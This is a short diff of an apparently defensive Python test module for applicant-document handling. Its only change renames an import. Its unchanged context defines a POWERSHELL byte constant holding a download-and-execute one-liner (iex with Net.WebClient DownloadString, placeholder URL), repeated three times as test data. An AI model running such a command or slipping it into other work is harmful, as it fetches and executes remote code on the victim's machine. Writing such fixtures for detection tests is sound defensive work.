@@ -5,7 +5,7 @@ import struct
 import zlib
 from collections.abc import Iterator
 
-from tests.applicants.documents import corpus_parts as parts
+from tests.applicants.documents import corpus_files as parts
 from tests.applicants.documents.corpus_everyday import samsung_notes
 
 POWERSHELL = b"powershell -NoProfile -Command \"iex (New-Object Net.WebClient).DownloadString('x')\"\r\n" * 3
